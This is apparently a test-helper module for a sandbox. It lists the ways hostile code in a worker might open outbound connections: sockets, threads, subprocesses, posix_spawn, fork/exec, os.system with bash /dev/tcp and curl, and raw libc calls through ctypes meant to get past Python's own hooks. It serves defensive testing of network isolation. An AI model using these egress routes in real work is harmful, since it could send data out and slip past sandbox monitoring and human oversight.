"""What hostile code of a pack would try in a worker: every way to open a socket. Run in children; nothing here is safe to run."""

from __future__ import annotations

import ctypes
import os
import socket as sockets
import subprocess as processes
import sys
import threading
from pathlib import Path


def _program(address: str, port: int, text: str) -> str:
    return f"import socket;s=socket.create_connection(({address!r},{port}),2);s.sendall({text.encode()!r})"


def is_alone() -> bool:
    """Whether this process has a network of its own: nothing but a loopback that is down."""
    lines = Path("/proc/net/dev").read_text("ascii").splitlines()[2:]
    return len(lines) <= 1 and all(line.split()[1] == "0" for line in lines)


def socket(address: str, port: int, text: str) -> None:
    with sockets.create_connection((address, port), 2) as one:
        one.sendall(text.encode())


def thread(address: str, port: int, text: str) -> None:
    running = threading.Thread(target=socket, args=(address, port, text))
    running.start()
    running.join()


def subprocess(address: str, port: int, text: str) -> None:
    processes.run([sys.executable, "-c", _program(address, port, text)], check=False, timeout=10)


def system(address: str, port: int, text: str) -> None:
    os.system(f"exec 3<>/dev/tcp/{address}/{port} && printf {text} >&3")
    os.system(f"curl -s -m 2 http://{address}:{port}/{text}")


def posix_spawn(address: str, port: int, text: str) -> None:
    child = os.posix_spawn(sys.executable, [sys.executable, "-c", _program(address, port, text)], dict(os.environ))
    os.waitpid(child, 0)


def fork_exec(address: str, port: int, text: str) -> None:
    child = os.fork()
    if child == 0:
        os.execv(sys.executable, [sys.executable, "-c", _program(address, port, text)])
    os.waitpid(child, 0)


def ctypes_(address: str, port: int, text: str) -> None:
    """The system's own calls, past everything that Python could see."""
    library = ctypes.CDLL(None)
    one = library.socket(2, 1, 0)
    where = (2).to_bytes(2, "little") + port.to_bytes(2, "big") + sockets.inet_aton(address) + bytes(8)
    library.connect(one, where, len(where))
    library.send(one, text.encode(), len(text), 0x4000)
    library.close(one)
